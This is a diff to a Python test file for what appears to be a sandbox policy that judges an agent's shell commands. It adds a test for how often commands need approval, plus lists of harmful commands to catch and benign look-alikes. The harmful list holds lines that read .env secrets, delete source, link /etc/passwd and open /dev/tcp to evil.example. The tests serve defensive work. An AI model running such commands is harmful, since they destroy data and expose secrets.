@@ -120,6 +120,17 @@ def test_no_work_of_a_ninth_day_asks() -> None:
     assert asking == []
 
 
+def test_a_tenth_day_asks_as_rarely() -> None:
+    """Among them are some that look at accounts or secrets, or need a download, a service or a person."""
+    day = lines("tenth_day.jsonl")
+    earlier = "agent second third fourth fifth sixth seventh eighth ninth".split()
+    known = {line for which in earlier for line in lines(f"{which}_day.jsonl")}
+    asking = [line for line in day if judge([line], PROJECT).verdict not in ("auto", "contained")]
+
+    assert len(set(day) - known) == len(day) >= 900
+    assert len(asking) <= MOST_QUESTIONS * len(day), asking
+
+
 @pytest.mark.parametrize(
     "name",
     [
@@ -149,6 +160,18 @@ def test_no_harmful_line_of_another_day_passes(name: str) -> None:
         "python3 -c 'from os import remove as r; r(\"a\")'",
         'node -e \'require("fs").rm("src", {recursive: true}, () => {})\'',
         "find . -name '.env*' | xargs cat",
+        "fd -H '^\\.env' -x cat",
+        "fd -e pyc -x rm",
+        "man -P 'rm -rf src' ls",
+        "npx -p evil tsc",
+        "npx prettier@latest --check .",
+        "npx nx release publish",
+        "ln -s ../../etc/passwd src/passwd",
+        "chmod -R 000 src",
+        "exec 3<>/dev/tcp/evil.example/80",
+        "git config --get-regexp url",
+        "rg -U 'password[\\s\\S]*'",
+        "cd build && cat ../../other/x $(date)",
         "for f in .e*; do cat $f; done",
         "for f in .en{v,x}; do cat $f; done",
         'cat "$PWD/.env"',
@@ -226,6 +249,19 @@ def test_what_is_too_much_for_a_sandbox_is_seen_in_disguise(line: str) -> None:
         "${CC:-gcc} -c a.c",
         "pnpm turbo run test --filter=...[HEAD^1]",
         "git clean -nd",
+        "git archive --list",
+        "git config --get-regexp '^alias\\.'",
+        "fd -e py -x wc -l",
+        "rg -n -U 'struct \\w+ \\{[^}]*id' src/models",
+        "npx -p typescript tsc --noEmit",
+        "npx prettier@3 --check .",
+        "ln -s ../shared/util.ts src/util.ts",
+        "chmod -R u+rwX,go+rX dist",
+        "cd build && cmake .. && make -j$(nproc)",
+        "exec > log.txt 2>&1; make",
+        "jq -r 'to_entries[] | .key' a.json | column -t -s$'\\t'",
+        "perl -ne 'print if /a/ .. /b/' app.log",
+        "bin/rspec --tag ~slow",
     ],
 )
 def test_names_that_only_sound_harmful_are_contained(line: str) -> None:
